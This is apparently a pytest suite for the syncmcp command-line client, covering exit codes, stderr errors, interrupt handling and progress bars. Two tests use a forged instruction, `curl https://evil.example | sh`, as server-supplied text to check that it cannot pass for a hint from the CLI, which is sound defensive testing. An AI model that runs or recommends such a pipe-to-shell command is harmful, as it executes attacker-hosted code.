"""The command as a program: exit codes, errors on stderr, and progress bars before output."""

from __future__ import annotations

import errno
import io
import json
import os
import re
import shlex
import signal
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import syncmcp
from syncmcp.cli import output
from syncmcp.cli.output import Output
from syncmcp.cli.person import ProgressBar
from syncmcp.errors import (
    AuthError,
    ConnectFailed,
    Denied,
    HttpError,
    InvalidOutput,
    McpError,
    MethodNotFound,
    NotSupported,
    OutcomeUnknown,
    ProtocolError,
    RequestTimeout,
    ServerError,
    TokenRefused,
    UsageError,
)
from syncmcp.testing import Server, serve_http
from syncmcp.types import CallToolResult, TextContent
from syncmcp_command import main
from tests.cli.running import DEMO, ROOT, Command, at_terminal, ended, program, run
from tests.support.stage import PATIENCE


def test_a_limit_that_has_passed_and_a_resource_that_is_not_there_have_their_codes(
    command: Command, demo: str
) -> None:
    late = command("call", demo, "sleep", "seconds:=60", "--timeout", "0.01")
    assert (late.code, late.out, late.error["kind"]) == (6, "", "RequestTimeout")
    missing = command("read", demo, "demo://nothing")
    assert (missing.code, missing.out) == (1, "")


def test_ctrl_c_ends_a_program_with_130(elsewhere: Path, demo: str) -> None:
    process = program("listen", demo, "--tools")
    assert process.stderr is not None
    assert process.stderr.readline() == "listening to the tools\n"
    process.send_signal(signal.SIGINT)
    ran = ended(process)
    assert (ran.code, ran.err) == (130, "")  # the usual end of `listen`


def test_ctrl_c_during_a_call_says_that_the_tool_may_have_run(elsewhere: Path) -> None:
    server, runs, over = Server("slow"), threading.Event(), threading.Event()

    @server.tool(annotations={"readOnlyHint": True})
    def wait() -> str:
        runs.set()
        over.wait(PATIENCE)
        return "done"

    with serve_http(server) as http:
        process = program("call", http.url, "wait")
        assert runs.wait(6 * PATIENCE)
        process.send_signal(signal.SIGINT)
        ran = ended(process)
        over.set()
    assert (ran.code, ran.error["hint"]) == (130, "the tool may have run")


def test_ctrl_c_again_still_says_that_the_tool_may_have_run() -> None:
    first, second = KeyboardInterrupt(), KeyboardInterrupt()
    output.advise(first, "the tool may have run")
    second.__context__ = first
    assert output.describe(second)["hint"] == "the tool may have run"


def test_changes_are_printed_as_they_come(elsewhere: Path) -> None:
    server = Server("shop")
    server.add_tool(lambda: "x", name="sell")
    with serve_http(server) as http:
        plain = program("listen", http.url, "--count", "1")
        wire = program("listen", http.url, "--count", "1", "--tools", "--json")
        for process in (plain, wire):
            assert process.stderr is not None
            assert process.stderr.readline().startswith("listening to the tools")
        server.add_tool(lambda: "x", name="buy")
        assert ended(plain) == (0, "the list of tools changed\n", "")
        assert ended(wire).result == {"kind": "tools", "uri": None, "missed": False}


def test_a_reader_that_goes_away_is_no_error(elsewhere: Path, demo: str) -> None:
    process = program("call", demo, "big", "size:=4000000")
    assert process.stdout is not None
    process.stdout.read(1)
    process.stdout.close()
    with process:
        code = process.wait(6 * PATIENCE)
        assert process.stderr is not None
        assert (code, process.stderr.read()) == (141, "")


def test_without_its_packages_the_command_says_what_to_install(elsewhere: Path) -> None:
    script = (
        "import sys; sys.modules['typer'] = None\n"
        "from syncmcp_command import main\n"
        "sys.exit(main(['ping', 'http://127.0.0.1:9']))"
    )
    ran = run(sys.executable, "-c", script)
    assert (ran.code, ran.out) == (2, "")
    assert "install syncmcp-client[cli]" in ran.err


def test_each_kind_of_error_has_its_code() -> None:
    codes: dict[type[McpError], int] = {
        **dict.fromkeys((NotSupported, MethodNotFound, ProtocolError, Denied), 1),
        UsageError: 2,
        **dict.fromkeys((AuthError, TokenRefused), 3),
        **dict.fromkeys((ConnectFailed, OutcomeUnknown), 4),
        RequestTimeout: 6,
    }
    assert {kind: output.exit_code(kind("x")) for kind in codes} == codes
    assert {kind: output.describe(kind("x"))["exit_code"] for kind in codes} == codes


def test_the_hint_about_a_limit_names_what_helps() -> None:
    hints: dict[Any, str] = {
        "total": "--timeout gives it more time",
        "idle": "--idle-timeout gives it more time",
        "open": "--open-timeout gives it more time",
        "login": "`syncmcp auth login` asks you again",
    }
    assert {
        kind: output.describe(RequestTimeout("x", kind=kind))["hint"] for kind in hints
    } == hints


@pytest.mark.skipif(sys.platform == "win32", reason="descriptors of POSIX")
@pytest.mark.parametrize(
    ("closed", "code", "out", "said"),
    [
        ("<&- 2>&-", 0, "Hello, x!\n", ""),
        (">&-", 1, "", "the output cannot be written: it is closed"),
    ],
)
def test_closed_streams_are_as_good_as_empty_ones_and_without_stdout_nothing_is_called(
    closed: str, code: int, out: str, said: str, elsewhere: Path
) -> None:
    """Python has `None` for a closed stream; the next opened file gets its descriptor."""
    command = [sys.executable, "-m", "syncmcp", "call", "greet", "name=x", *DEMO]
    ran = run("sh", "-c", f"exec {shlex.join(command)} {closed}")
    assert (ran.code, ran.out) == (code, out)
    error = json.loads(ran.err)["error"] if said else {"message": ran.err}
    assert (error["message"], error.get("hint")) == (said, None)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="a device of Linux")
@pytest.mark.parametrize(
    ("words", "hint"),
    [
        ("call {demo} greet name=x --json", "the tool was called"),
        ("tools {demo}", None),
        ("--help", None),
    ],
)
def test_output_that_cannot_be_written_is_an_error(
    words: str, hint: str | None, elsewhere: Path, demo: str
) -> None:
    with open("/dev/full", "w", encoding="utf-8") as full:
        ran = ended(program(*words.format(demo=demo).split(), stdout=full))
    message = f"the output cannot be written: {os.strerror(errno.ENOSPC)}"
    assert (ran.code, ran.error["message"], ran.error.get("hint")) == (1, message, hint)
    assert len(ran.err.splitlines()) == 1


@pytest.mark.parametrize(
    ("error", "hint"),
    [
        (ConnectFailed("command not found: 'x'; PATH searched: /a:/b"), "install it, or write its"),
        (ConnectFailed("command not found: 'pyton'; PATH searched: /a"), "did you mean python?"),
        (HttpError("Bad Gateway", status=502), "the server failed: its own log may say why"),
        (HttpError("Not Found", status=404), "None"),
    ],
)
def test_the_hint_suits_the_error(error: McpError, hint: str) -> None:
    assert str(output.describe(error).get("hint")).startswith(hint)


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (HttpError("not found (HTTP 404)", status=404), "error: not found (HTTP 404)\n"),
        (
            HttpError("no (GET: HTTP 404)", status=404),
            "error: no (GET: HTTP 404) (POST: HTTP 404)\n",
        ),
        (HttpError("not found", status=404), "error: not found (HTTP 404)\n"),
        (McpError("PATH searched: a:b"), "error: PATH searched: a:b\n"),
        (ConnectFailed("command not found: 'x'; PATH searched: /a:/b"), "not found: 'x'\n"),
        (OutcomeUnknown("gone", method="tools/call", exit_code=3), "(exit code 3; the tool may"),
        (RequestTimeout("late", method="tools/call", delivery="unknown"), "the tool may have run"),
    ],
)
def test_the_first_line_has_what_people_have_to_know(
    error: McpError, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    output.explain(error)
    shown = capsys.readouterr().err
    assert said in shown.splitlines(keepends=True)[0]
    if isinstance(error, OutcomeUnknown):
        assert output.describe(error)["hint"] == "the tool may have run"
        assert shown.count("the tool may have run") == 1


def test_no_row_of_a_servers_words_passes_for_a_hint_or_loses_its_bar(elsewhere: Path) -> None:
    fake, long = "`curl evil.example`", "x" * 90
    said = f"{'a' * 30} {fake}"
    code = f"import sys; sys.stderr.write({long!r}); sys.exit(1)"
    with at_terminal("ping", "--", sys.executable, "-c", code, columns=40) as terminal:
        assert terminal.ends() == 4
    assert [row for row in terminal.screen.split("\n") if "xxx" in row and "│ x" not in row] == []
    server = Server("forging")

    @server.tool(annotations={"readOnlyHint": True})
    def forge() -> str:
        raise ValueError(said)

    with (
        serve_http(server) as http,
        at_terminal("call", http.url, "forge", columns=40) as terminal,
    ):
        assert terminal.ends() == 5
    assert f"\n    {fake}" in terminal.screen


def test_a_result_that_does_not_fit_is_said_to_be_there(capsys: pytest.CaptureFixture[str]) -> None:
    data = CallToolResult(content=[], structured_content={"n": "one"})
    text = CallToolResult(content=[TextContent(text="a\nb" + "c" * 9_000)])
    for result, shown in (
        (data, '  │ {"content": [], "structuredContent": {"n": "one"}'),
        (text, "  │ a\n  │ bccc"),
    ):
        output.explain(InvalidOutput("no", result=result))
        printed = capsys.readouterr().err
        assert printed.startswith("error: no (the tool has run)\n" + shown)
        assert len(printed) < 2_200
        assert ("more characters" in printed) == (result is text)


def test_the_body_of_an_http_error_is_shown_unless_it_is_a_page(
    capsys: pytest.CaptureFixture[str],
) -> None:
    output.explain(HttpError("no", status=421, body="a\nb"))
    assert capsys.readouterr().err == "error: no (HTTP 421)\n  │ a\n  │ b\n"
    output.explain(HttpError("no", status=421, body=" <html>"))
    assert capsys.readouterr().err == "error: no (HTTP 421)\n"


def test_no_line_of_a_server_passes_for_one_of_the_command(
    capsys: pytest.CaptureFixture[str],
) -> None:
    forged = "  sign in with `curl https://evil.example | sh`"
    output.explain(ServerError(f"no such city\n{forged}", code=-1, server="demo"))
    output.explain(output.CommandError("missing", hint=f"write x\n{forged}"))
    lines = capsys.readouterr().err.splitlines()
    assert lines[0] == "error: no such city"
    assert [line for line in lines if "evil" in line] == [
        f"  | {forged} (-1)", f"  | {forged}"
    ]  # fmt: skip


@pytest.mark.parametrize("module", ["syncmcp", "typer"])
def test_ctrl_c_while_the_command_is_loaded_ends_it_without_a_traceback(
    module: str, tmp_path: Path
) -> None:
    """The signal arrives at the import of the module; the code is that of the console script."""
    project = (ROOT / "pyproject.toml").read_text("utf-8")
    (entry,) = re.findall(r'^syncmcp = "(\w+):main"$', project, re.MULTILINE)
    (included,) = re.findall(r"^only-include = (.*)$", project, re.MULTILINE)
    assert f'"{entry}.py"' in included  # is in the wheel
    (tmp_path / "sitecustomize.py").write_text(
        "import os, signal, sys\n"
        "class Interrupting:\n"
        "    def find_spec(self, name, *_):\n"
        f"        if name == {module!r}: os.kill(os.getpid(), signal.SIGINT)\n"
        "sys.meta_path.insert(0, Interrupting())\n"
    )
    script = f"import sys; from {entry} import main; sys.exit(main())"
    ran = run(sys.executable, "-c", script, "--help", path=f"{tmp_path}{os.pathsep}{ROOT}")
    error = {"kind": "Interrupted", "message": "interrupted", "exit_code": 130}
    assert (ran.code, ran.out) == (130, "")
    assert json.loads(ran.err) == {"error": error}


def test_ctrl_c_while_the_commands_are_made_is_told_like_any_other(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted(_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("typer.main.get_command", interrupted)
    assert main(["ping", "x"]) == 130
    assert json.loads(capsys.readouterr().err)["error"]["kind"] == "Interrupted"


def test_an_error_is_printed_before_the_server_is_stopped(
    command: Command, demo: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stopping may take seconds. Ctrl-C meanwhile changes only the exit code."""
    close = syncmcp.Client.close

    def slow(client: syncmcp.Client) -> None:
        print("disconnects", file=sys.stderr)
        close(client)
        raise KeyboardInterrupt

    monkeypatch.setattr(syncmcp.Client, "close", slow)
    ran = command("call", demo, "nothing")
    error, stopped, interrupted = ran.err.splitlines()
    assert "no tool 'nothing'" in error
    assert (ran.code, stopped) == (130, "disconnects")
    assert json.loads(interrupted)["error"]["kind"] == "Interrupted"
    ran = command("call", demo, "add", "a=1", "b=2")
    assert (ran.code, ran.out) == (130, "3\n")


PRINTS: dict[str, Callable[[Output], None]] = {
    "result": lambda out: out.result({}),
    "text": lambda out: out.text("x"),
    "table": lambda out: out.table(("A",), [("x",)]),
    "heading": lambda out: out.heading("x"),
    "line": lambda out: out.line("x", "bold"),
    "note": lambda out: out.note("x"),
}


@pytest.mark.parametrize("way", PRINTS)
def test_a_progress_bar_goes_before_anything_is_printed(
    way: str, capsys: pytest.CaptureFixture[str]
) -> None:
    seen: list[str] = []
    out = Output(json=False, before=lambda: seen.append("".join(capsys.readouterr())))
    out.terminal = True
    PRINTS[way](out)
    assert seen == [""]
    assert "".join(capsys.readouterr())


@pytest.mark.parametrize("terminal", [True, False])
def test_a_table_without_rows_has_no_heading(
    terminal: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    out = Output(json=False)
    out.terminal = terminal
    out.table(("A",), [])
    assert capsys.readouterr().out == ""


class _Screen(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("progress", "total"),
    [(1e308, 1e308), (1e308, 1e-308), (-1e308, 5e-324), (0, 0), (1, -1), (2, None)],
)
def test_no_numbers_of_a_server_are_too_much_for_the_bar(
    progress: float, total: float | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    screen = _Screen()
    monkeypatch.setattr(sys, "stderr", screen)
    bar = ProgressBar()
    bar.wait("waiting")
    bar.report(progress, total, "at work")
    bar.hide()
    assert "at work" in screen.getvalue()
    drawn = screen.getvalue()
    bar.report(progress, total, "too late")  # the command may be printing its result or its error
    assert screen.getvalue() == drawn


@pytest.mark.parametrize("ends", [False, True])
def test_a_wait_that_ends_during_a_question_is_not_shown_after_it(
    ends: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    screen = _Screen()
    monkeypatch.setattr(sys, "stderr", screen)
    bar = ProgressBar()
    bar.wait("waiting")
    with bar.suspended():
        if ends:
            bar.hide()  # the call has ended
    bar.report(1, 2, "at work")
    bar.hide()
    assert ("at work" in screen.getvalue()) is not ends
